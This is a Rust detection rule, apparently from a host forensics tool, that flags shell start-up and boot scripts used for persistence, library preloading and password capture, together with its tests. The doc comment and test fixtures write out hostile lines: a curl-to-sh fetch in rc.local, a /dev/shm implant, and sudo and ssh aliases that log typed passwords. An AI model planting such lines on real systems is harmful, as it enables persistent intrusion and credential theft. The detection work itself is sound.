//! `persistence.shell_init` — shell start-up and boot scripts that fetch or run planted code,
//! preload a library, or wrap `sudo`/`ssh` to capture what is typed.
//!
//! **Why**: a line in root's `.bashrc` (`nohup /dev/shm/.x/run >/dev/null 2>&1 &`) restarts
//! the implant at every login, a `/etc/profile.d/*.sh` reaches every account, `/etc/rc.local`
//! every boot, and `alias sudo='…read -s pw; echo $pw >> /tmp/.p…'` or an `ssh` alias
//! through `strace` steals the administrator's passwords while the responder works. **How**:
//! the statements of every start-up file [`crate::hostconf::shellinit`] knows (`/etc/profile`,
//! `/etc/profile.d/*`, `/etc/bash.bashrc`, `/etc/bashrc`, `/etc/zsh/*`, `/etc/environment`,
//! `/etc/rc.local`, `/etc/init.d/*`, `/etc/skel/*` and each account's rc/profile files,
//! `.ssh/rc`, `.ssh/environment`): a command [`risky_command`] judges to fetch, connect, decode
//! or run inline code; a command whose program (through pipes, `nohup`, `.`/`source`, `sh`) is
//! in `/tmp`, `/var/tmp`, `/dev/shm` or a hidden directory (mere mentions of such a path, as
//! Debian's `x11-common` makes `/tmp/.X11-unix`, are not runs); an assignment of `LD_PRELOAD`;
//! a `PROMPT_COMMAND` or an alias whose value does any of that, or — for `sudo`, `su`, `ssh`,
//! `scp`, `passwd`, `mysql` — reads a password (`read -s`), traces (`strace`), records
//! (`script`, `tee`) or writes to a file. **Severity**: high for fetching or connecting,
//! running from a world-writable directory and `LD_PRELOAD`; medium otherwise (hidden
//! directory, decoding, inline code, a keystroke-capturing alias). **ATT&CK**: T1546.004
//! (Event Triggered Execution: Unix Shell Configuration Modification); `rc.local` and init
//! scripts are also T1037.004 (Boot or Logon Initialization Scripts: RC Scripts).
//! **False positives**: an administrator's own `PROMPT_COMMAND` shipping commands to a
//! collector with `curl`, a tool's hook sourced from a hidden directory not in the known list
//! (`rustup`'s `~/.cargo/env`, nvm, sdkman, rvm, ghcup are known); Debian's own `/etc/profile`,
//! `/etc/bash.bashrc`, `/etc/skel/*` and init scripts are quiet (tested on this machine's).

use super::super::host::{risky_command, Cites, ConfigRule, Host};
use crate::detect::finding::{Finding, Severity};
use crate::hostconf::shellinit::{kind, programs, statements, suspicious_place, Kind, Statement};

/// The rule.
pub struct ShellInit;

/// Commands whose alias capturing input steals credentials.
const CREDENTIAL_COMMANDS: &[&str] = &["sudo", "su", "ssh", "scp", "sftp", "passwd", "mysql"];

/// Why a command line is planted, and whether that is high.
fn judge_command(cmd: &str) -> Option<(String, bool)> {
    if let Some(r) = risky_command(cmd) {
        if !r.starts_with("runs from") {
            let high = r.starts_with("downloads") || r.starts_with("opens");
            return Some((r.to_string(), high));
        }
    }
    programs(cmd).iter().find_map(|p| {
        suspicious_place(p).map(|place| {
            (
                format!("runs {p} from {place}"),
                place.contains("world-writable"),
            )
        })
    })
}

/// Why an alias value captures what is typed.
fn captures(value: &str) -> Option<&'static str> {
    let v = value.to_ascii_lowercase();
    if v.contains("read -s") || v.contains("read -rs") || v.contains("read -sr") {
        Some("reads the password typed")
    } else if v.contains("strace") {
        Some("traces the session (keystrokes, passwords)")
    } else if v.contains("script ") || v.contains("tee ") || v.contains('>') {
        Some("records the session to a file")
    } else {
        None
    }
}

fn judge(stmt: &Statement) -> Option<(String, String, bool)> {
    match stmt {
        Statement::Assign { name, value } if name == "LD_PRELOAD" && !value.trim().is_empty() => {
            Some((
                format!("LD_PRELOAD={value}"),
                "preloads a library into every program".into(),
                true,
            ))
        }
        Statement::Assign { name, value } if name == "PROMPT_COMMAND" => {
            let shown = format!("PROMPT_COMMAND={value}");
            if let Some((why, high)) = judge_command(value) {
                return Some((shown, format!("runs at every prompt and {why}"), high));
            }
            let v = value.to_ascii_lowercase();
            (v.contains("history") && (v.contains('>') || v.contains("tee ")))
                .then(|| (shown, "writes every command typed to a file".into(), false))
        }
        Statement::Assign { .. } => None,
        Statement::Alias { name, value } => {
            let shown = format!("alias {name}='{value}'");
            if let Some((why, high)) = judge_command(value) {
                return Some((shown, format!("makes `{name}` run code that {why}"), high));
            }
            let base = name.trim_matches(['\'', '"']);
            if CREDENTIAL_COMMANDS.contains(&base) {
                return captures(value).map(|c| (shown, format!("wraps `{base}` and {c}"), false));
            }
            None
        }
        Statement::Command(c) => judge_command(c).map(|(why, high)| (c.clone(), why, high)),
    }
}

impl ConfigRule for ShellInit {
    fn check(&self, host: &Host) -> Vec<Finding> {
        let mut out = Vec::new();
        for (path, f) in &host.conf.files {
            let Some(k) = kind(path) else {
                continue;
            };
            let mut hits: Vec<(u64, String, String, bool)> = Vec::new();
            for l in statements(k, &f.text()) {
                if let Some((what, why, high)) = judge(&l.stmt) {
                    hits.push((l.line, what, why, high));
                }
            }
            if hits.is_empty() {
                continue;
            }
            let mut c = Cites::default();
            for (l, _, _, _) in &hits {
                c.add(&host.conf, path, Some(*l));
            }
            let high = hits.iter().any(|h| h.3);
            let first = hits.iter().find(|h| h.3 == high).unwrap_or(&hits[0]);
            let owner = host
                .owner_of(path)
                .map(str::to_string)
                .or_else(|| path.starts_with("/root/").then(|| "root".to_string()));
            let whose = match (k, &owner) {
                (Kind::Boot, _) => "Boot script".to_string(),
                (Kind::Account, Some(u)) => format!("{u}'s shell start-up file"),
                (Kind::Account, None) => "Shell start-up template".to_string(),
                (Kind::Environment, Some(u)) => format!("{u}'s SSH environment"),
                _ => "System-wide shell start-up file".to_string(),
            };
            let lines: Vec<String> = hits
                .iter()
                .take(5)
                .map(|(l, what, why, _)| format!("line {l}: {what} — {why}"))
                .collect();
            let mut finding = c.finding(
                "persistence.shell_init",
                if high {
                    Severity::High
                } else {
                    Severity::Medium
                },
                vec!["T1546.004"],
                format!("{whose} {path} {}", first.2),
                format!(
                    "{path}: {}{}",
                    lines.join("; "),
                    if hits.len() > 5 {
                        format!("; and {} more lines", hits.len() - 5)
                    } else {
                        String::new()
                    }
                ),
            );
            if let Some(u) = owner {
                finding.entities.users.push(u);
            }
            out.push(finding);
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::rules::config_tests::{cited, cites, host};

    /// Debian 12's `/etc/skel/.bashrc` is the start of root's; the attacker appended a line.
    fn planted_bashrc() -> String {
        let skel = std::fs::read_to_string("/etc/skel/.bashrc").unwrap_or_else(|_| {
            "# ~/.bashrc: executed by bash(1) for non-login shells.\n[ -z \"$PS1\" ] && return\n"
                .to_string()
        });
        format!("{skel}nohup /dev/shm/.x/dbus-sync >/dev/null 2>&1 &\n")
    }

    #[test]
    fn planted_lines_are_found_at_their_line() {
        let bashrc = planted_bashrc();
        let n = bashrc.lines().count() as u64;
        let h = host(&[
            ("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nliwei:x:1001:1001::/home/liwei:/bin/bash\n"),
            ("/root/.bashrc", &bashrc),
            ("/etc/profile.d/locale-fix.sh", "# locale\nexport LANG=C.UTF-8\nexport LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libselinux.so.3.1\n"),
            ("/home/liwei/.bash_aliases", "alias ll='ls -alF'\n"),
            ("/home/liwei/.bashrc", "alias ll='ls -alF'\nalias sudo='echo -n \"[sudo] password for $USER: \"; read -s pw; echo; echo \"$pw\" >> ~/.cache/.sd; /usr/bin/sudo $@'\nalias ssh='strace -o ~/.cache/.s.log -e trace=read,write -s 512 ssh'\n"),
            ("/etc/rc.local", "#!/bin/sh -e\n/usr/bin/curl -fsS http://203.0.113.77/boot.sh | /bin/sh\nexit 0\n"),
        ]);
        let f = ShellInit.check(&h);
        let sev: Vec<Severity> = f.iter().map(|f| f.severity).collect();
        let got = cited(f);
        assert_eq!(
            got,
            vec![
                (
                    "System-wide shell start-up file /etc/profile.d/locale-fix.sh preloads a library into every program".to_string(),
                    cites(&[("etc/profile.d/locale-fix.sh", &[3])])
                ),
                (
                    "Boot script /etc/rc.local downloads a program and runs it".to_string(),
                    cites(&[("etc/rc.local", &[2])])
                ),
                (
                    "liwei's shell start-up file /home/liwei/.bashrc wraps `sudo` and reads the password typed".to_string(),
                    cites(&[("home/liwei/.bashrc", &[2, 3])])
                ),
                (
                    "root's shell start-up file /root/.bashrc runs /dev/shm/.x/dbus-sync from a world-writable directory".to_string(),
                    cites(&[("root/.bashrc", &[n])])
                ),
            ]
        );
        assert_eq!(
            sev,
            [
                Severity::High,
                Severity::High,
                Severity::Medium,
                Severity::High
            ]
        );
    }

    #[test]
    fn ordinary_start_up_lines_are_quiet() {
        let h = host(&[
            ("/home/ann/.profile", "if [ -d \"$HOME/.local/bin\" ] ; then\n    PATH=\"$HOME/.local/bin:$PATH\"\nfi\n. \"$HOME/.cargo/env\"\n"),
            ("/home/ann/.bashrc", "export PROMPT_COMMAND=\"history -a; $PROMPT_COMMAND\"\nalias sudo='sudo '\nalias grep='grep --color=auto'\n[ -d /tmp/.X11-unix ] || mkdir -m 1777 /tmp/.X11-unix\n"),
            ("/etc/profile.d/audit.sh", "export PROMPT_COMMAND='RETRN_VAL=$?;logger -p local6.debug \"$(whoami) [$$]: $(history 1 | sed \"s/^[ ]*[0-9]\\+[ ]*//\" ) [$RETRN_VAL]\"'\n"),
            ("/etc/environment", "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\n"),
        ]);
        let f = ShellInit.check(&h);
        assert!(f.is_empty(), "{:#?}", cited(f));
    }

    /// This machine's real start-up files: `/etc/profile`, `/etc/bash.bashrc`, `/etc/skel/*`,
    /// `/etc/profile.d/*`, `/etc/init.d/*`, `/etc/environment`.
    #[test]
    fn this_machines_start_up_files_are_quiet() {
        let mut paths: Vec<String> = [
            "/etc/profile",
            "/etc/bash.bashrc",
            "/etc/skel/.bashrc",
            "/etc/skel/.profile",
            "/etc/skel/.bash_logout",
            "/etc/environment",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        for d in ["/etc/profile.d", "/etc/init.d"] {
            if let Ok(rd) = std::fs::read_dir(d) {
                paths.extend(rd.flatten().map(|e| e.path().display().to_string()));
            }
        }
        let owned: Vec<(String, String)> = paths
            .into_iter()
            .filter_map(|p| std::fs::read_to_string(&p).ok().map(|t| (p, t)))
            .collect();
        if !owned.iter().any(|(p, _)| p == "/etc/profile")
            || !owned.iter().any(|(p, _)| p == "/etc/skel/.bashrc")
        {
            eprintln!("SKIPPED: /etc/profile or /etc/skel/.bashrc is absent on this machine");
            return;
        }
        let files: Vec<(&str, &str)> = owned
            .iter()
            .map(|(p, t)| (p.as_str(), t.as_str()))
            .collect();
        let h = host(&files);
        let f = ShellInit.check(&h);
        assert!(f.is_empty(), "{:#?}", cited(f));
        // The same text as root's own files is quiet too.
        let skel = &owned
            .iter()
            .find(|(p, _)| p == "/etc/skel/.bashrc")
            .unwrap()
            .1;
        let h = host(&[("/root/.bashrc", skel.as_str())]);
        assert!(ShellInit.check(&h).is_empty());
    }
}
